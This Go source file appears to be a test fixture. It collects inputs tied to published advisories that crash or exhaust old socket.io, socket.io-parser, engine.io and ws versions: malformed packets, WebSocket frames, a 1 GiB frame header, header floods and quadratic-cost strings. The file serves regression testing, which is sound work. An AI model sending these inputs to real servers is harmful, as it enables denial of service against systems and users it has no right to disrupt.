// Package advisory has bytes that old versions of socket.io, socket.io-parser, engine.io and ws do not survive, by the
// advisory on each. Tests send them to the server of this repository, and to those versions.
package advisory

import (
	"fmt"
	"strings"
)

// Values of headers of a WebSocket request.
const (
	// Extension crashes ws 2 and 3 < 3.3.1 and < 1.1.5 as Sec-WebSocket-Extensions (GHSA-5v72-xg48-5rpm).
	Extension = "constructor"

	// Origin may read the answers of socket.io < 2.4.0 (CVE-2020-28481).
	Origin = "https://evil.test"
)

// Packets of Socket.IO, with the type of their Engine.IO message.
const (
	// Splice makes a function an argument with socket.io-parser < 4.2.1 (CVE-2022-2421). One attachment follows.
	Splice = `451-1["echo",{"_placeholder":true,"num":"splice"}]`

	// NoName crashes a server with socket.io-parser < 4.2.3 (CVE-2023-32695).
	NoName = `42[{"toString":"foo"}]`

	// ErrorEvent crashes socket.io < 4.6.2 and 2 < 2.5.1 (CVE-2024-38355).
	ErrorEvent = `42["error"]`

	// ManyAttachments lets socket.io-parser < 4.2.6 keep whatever follows (CVE-2026-33151).
	ManyAttachments = `4599999999-["a"]`

	// NoAttachments lets socket.io-parser < 4.2.7 keep whatever follows (CVE-2026-69185).
	NoAttachments = `450-["a"]`
)

// Frames of WebSocket, masked with a key of zeros.
const (
	// Reserved crashes engine.io 4 < 4.1.2, 5 < 5.2.1 and 6 < 6.1.1 when it comes with the request (CVE-2022-21676).
	Reserved = "\xf1\x81\x00\x00\x00\x00x"

	// Gigabyte is the head of a text of 1 GiB, of which ws < 1.1.1 keeps what comes (CVE-2016-10542).
	Gigabyte = "\x81\xff\x00\x00\x00\x00\x40\x00\x00\x00\x00\x00\x00\x00"

	// FirstFragment and then Fragment, over and over, cost ws < 8.21.0 many times what they hold (CVE-2026-48779).
	FirstFragment = "\x01\x81\x00\x00\x00\x004"
	Fragment      = "\x00\x81\x00\x00\x00\x002"
)

// Requests.
const (
	// OtherTransport crashes engine.io 5.1 to 6.4.1 as the query of a WebSocket request (CVE-2023-31125).
	OtherTransport = "EIO=4&transport=__proto__"

	// BinaryPost is the body of an application/octet-stream that engine.io < 6.6.7 never answers (CVE-2026-59725).
	BinaryPost = "\x00\x01\xff4"
)

// Spaces is a Sec-WebSocket-Protocol on which ws < 7.4.6 spends a time that grows with the square of n (CVE-2021-32640).
func Spaces(n int) string { return "b" + strings.Repeat(" ", n) + "x" }

// Headers are n headers of seven bytes each. 2,000 of them hide those after them, without which ws < 8.17.1 crashes
// (CVE-2024-37890).
func Headers(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%s: x\r\n", headerName(i))
	}
	return b.String()
}

// headerName returns two characters of a token, others for each i up to 2,500 (RFC 9110, section 5.6.2).
func headerName(i int) string {
	const characters = "!#$%&'*+-.0123456789abcdefghijklmnopqrstuvwxyz^_`|~"
	return string([]byte{characters[i/len(characters)], characters[i%len(characters)]})
}

// ManyPackets is a payload of revision 3 with n packets, on which engine.io <= 3.5 spends very long (CVE-2020-36048).
func ManyPackets(n int) string { return strings.Repeat("2:40", n) }

// LongID is a packet with an id of n digits, each of which costs socket.io-parser < 3.4.1 a copy (CVE-2020-36049).
func LongID(n int) string { return "42" + strings.Repeat("1", n) }
